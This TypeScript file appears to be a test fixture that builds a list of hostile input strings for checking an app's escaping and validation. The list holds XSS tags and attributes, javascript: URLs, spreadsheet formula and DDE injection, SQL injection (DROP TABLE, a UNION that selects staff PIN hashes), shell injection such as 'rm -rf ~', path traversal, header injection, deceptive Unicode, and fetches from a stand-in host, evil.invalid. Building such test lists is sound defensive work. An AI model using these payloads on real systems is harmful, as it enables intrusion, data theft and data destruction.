/**
 * Texts that try to become something else on a screen, a paper or in a file: elements, attributes, addresses, styles,
 * formulas, templates, SQL, and letters that turn, hide, pile up or go on for ever. Each holds the word `hostile`; each
 * that would make an element marks it with `x-hostile`, and each that would run calls `hostile()`.
 */

const run = 'hostile(1)';
const mark = 'x-hostile=1';

/** What makes a browser run, fetch or show something by itself. */
const elements: readonly string[] = [
  `<script ${mark}>${run}</script>`,
  `<ScRiPt ${mark}>${run}</sCrIpT>`,
  `<script ${mark} src=//evil.invalid/x></script>`,
  `<script ${mark} type=module>import "//evil.invalid/x"</script>`,
  `<img ${mark} src=x onerror=${run}>`,
  `<img ${mark} src=//evil.invalid/x>`,
  `<img/${mark}/src=x/onerror=${run}//`,
  `<svg ${mark} onload=${run}>`,
  `<svg ${mark}><script>${run}</script></svg>`,
  `<svg ${mark}><animate onbegin=${run} attributeName=x>`,
  `<svg ${mark}><use href=//evil.invalid/x#a>`,
  `<svg ${mark}><image href=//evil.invalid/x>`,
  `<svg><style ${mark}>{font:url(//evil.invalid/x)}</style>`,
  `<math ${mark}><mi xlink:href="javascript:${run}">x`,
  `<iframe ${mark} src=javascript:${run}></iframe>`,
  `<iframe ${mark} srcdoc="<script>${run}</script>">`,
  `<object ${mark} data=javascript:${run}>`,
  `<embed ${mark} src=//evil.invalid/x>`,
  `<video ${mark} src=x onerror=${run}>`,
  `<video ${mark}><source onerror=${run}>`,
  `<audio ${mark} src=//evil.invalid/x autoplay>`,
  `<body ${mark} onload=${run}>`,
  `<input ${mark} autofocus onfocus=${run}>`,
  `<select ${mark} autofocus onfocus=${run}>`,
  `<textarea ${mark} autofocus onfocus=${run}>`,
  `<details ${mark} open ontoggle=${run}>`,
  `<marquee ${mark} onstart=${run}>`,
  `<a ${mark} href="javascript:${run}">x</a>`,
  `<form ${mark} action=//evil.invalid/x><button>x`,
  `<base ${mark} href=//evil.invalid/>`,
  `<meta ${mark} http-equiv=refresh content="0;//evil.invalid/">`,
  `<link ${mark} rel=stylesheet href=//evil.invalid/x>`,
  `<link ${mark} rel=prefetch href=//evil.invalid/x>`,
  `<style ${mark}>*{background:url(//evil.invalid/x)}</style>`,
  `<style ${mark}>@import '//evil.invalid/x'</style>`,
  `<div ${mark} style="background:url(//evil.invalid/x)">`,
  `<div ${mark} onpointerover=${run}>`,
  `<dialog ${mark} open>hostile</dialog>`,
  `<template ${mark}><script>${run}</script></template>`,
  `<x-hostile contenteditable onblur=${run} autofocus>`,
  `<noscript><p title="</noscript><img ${mark} src=x onerror=${run}>">`,
  `<!--><img ${mark} src=x onerror=${run}>-->`,
  `<![CDATA[><img ${mark} src=x onerror=${run}>]]>`,
  `<?xml version="1.0"?><img ${mark} onerror=${run} src=x>`,
];

/** What ends the place that a text was put in, so that the next may begin something else. */
const endings: readonly string[] = [
  '',
  '">',
  "'>",
  '`>',
  '-->',
  '</title>',
  '</style>',
  '</textarea>',
  '</script>',
  '</bdi></td></tr></table>',
];

const attributes: readonly string[] = [
  `" ${mark} onfocus="${run}" autofocus="`,
  `' ${mark} onfocus='${run}' autofocus='`,
  `" ${mark} onpointerover="${run}`,
  `x ${mark} onload=${run}`,
  `" ${mark} style="background:url(//evil.invalid/x)`,
  `" ${mark} srcdoc="<script>${run}</script>`,
  `" ${mark} formaction="javascript:${run}`,
];

const addresses: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `javascript://%0a${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  'data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKDEpPC9zY3JpcHQ+hostile',
  'https://evil.invalid/hostile',
  '//evil.invalid/hostile',
  'file:///etc/hostile',
  'app://shop/index.html?hostile#/settings',
  '#/settings?hostile',
  '../../../../hostile',
  '..\\..\\hostile.exe',
  'CON hostile',
  'mailto:a@evil.invalid?hostile',
];

const formulas: readonly string[] = [
  '=hostile()',
  '+hostile()',
  '-hostile()',
  '@hostile()',
  '\t=hostile()',
  '\n=hostile()',
  `=HYPERLINK("//evil.invalid/"&A1,"hostile")`,
  `=WEBSERVICE("//evil.invalid/hostile")`,
  `=cmd|'/c hostile'!A1`,
  `+cmd|'/c hostile'!A1`,
  `-2+3+cmd|'/c hostile'!A1`,
  `@SUM(1+1)*cmd|'/c hostile'!A1`,
  `",=hostile(),"`,
  `";=hostile();"`,
  'hostile\n=hostile()',
  '＝hostile()',
];

const templates: readonly string[] = [
  '{{hostile()}}',
  '$\u007bhostile()}',
  '#{hostile()}',
  '<%= hostile() %>',
  '[[hostile()]]',
  '{name} {count} {hostile}',
  '{count, plural, one {hostile} other {#}}',
  '%s %d %n hostile',
  '$& $1 $` hostile',
  '\\u003cscript\\u003ehostile(1)',
  '\\x3cimg src=x onerror=hostile(1)\\x3e',
  '&lt;img x-hostile src=x onerror=hostile(1)&gt;',
  '&#60;script&#62;hostile(1)',
  '%3Cscript%3Ehostile(1)%3C/script%3E',
  '+ADw-script+AD4-hostile(1)+ADw-/script+AD4-',
  '＜script＞hostile(1)＜/script＞',
  '__proto__ hostile',
  'constructor.prototype.hostile',
  '{"__proto__":{"hostile":1}}',
  'undefined hostile',
  'NaN hostile',
  '[object Object] hostile',
];

const queries: readonly string[] = [
  `hostile'; DROP TABLE orders; --`,
  `hostile' OR '1'='1`,
  `hostile" OR ""="`,
  `hostile') UNION SELECT pinHash FROM staff --`,
  'hostile" NEAR( * ^ : AND',
  'hostile* OR name:*',
  '%hostile%_\\%',
  `hostile\\'; --`,
  'hostile`; rm -rf ~',
  '$(hostile)',
  '| hostile &',
];

const letters: readonly string[] = [
  '\u202ehostile\u202c',
  '\u202egpj.elitsoh',
  '\u2066hostile\u2069\u2069\u2069',
  '\u2067hostile',
  '\u200fhostile\u200e',
  'hos\u200btile\u200b\u200b',
  '\ufeffhostile',
  'hos\u00adtile',
  'hostile\u2060\u2061\u2062',
  'hostile\u2028second\u2029third',
  'hostile\u0085\u00a0\u3000',
  'hostile\ufffe\uffff',
  'hostile\u{e0041}\u{e0042}\u{e007f}',
  'مرحبا hostile بالعالم',
  'שלום hostile 1,234.50 −',
  '敵対 hostile 的な文字列',
  'ｈｏｓｔｉｌｅ hostile',
  'hοѕtіlе hostile',
  'hostile İıŞß ŉ ǰ ﬃ',
  'hostile \u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
  'hostile \u{1f1e9}\u{1f1ea}\u{1f1eb}\u{1f1f7}',
  'hostile \u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
  `hostile ${'\u{1f600}'.repeat(30)}`,
  `h${'\u0301\u0316\u0334'.repeat(20)}ostile hostile`,
  `hostile${'\u0e47'.repeat(30)}`,
  'hostile ﷽﷽﷽',
  'hostile 𒐫𒐫𒐫',
  `hostile${'W'.repeat(200)}`,
  `hostile ${'long '.repeat(400)}`,
  `hostile${'\n'.repeat(20)}end`,
  'hostile\r\nX-Header: 1\r\n\r\n',
  '   hostile   ',
  'hostile …',
];

/** More than five hundred, no two the same. */
export const hostileTexts: readonly string[] = [
  ...new Set([
    ...endings.flatMap((ending) => elements.map((element) => `${ending}${element}`)),
    ...endings.slice(1, 5).flatMap((ending) => attributes.map((attribute) => `${ending}${attribute}`)),
    ...attributes,
    ...addresses,
    ...formulas,
    ...templates,
    ...queries,
    ...letters,
  ]),
];

/** Texts that no field takes: control characters and halves of characters. */
export const refusedTexts: readonly string[] = [
  'hostile\u0000',
  '\u0007hostile',
  'hostile\u001b[31m',
  'hostile\u007f',
];

/** One that fits a field, whole characters only. */
export function cutTo(text: string, maximum: number): string {
  const cut = text.slice(0, maximum);
  return cut.isWellFormed() ? cut : cut.slice(0, -1);
}
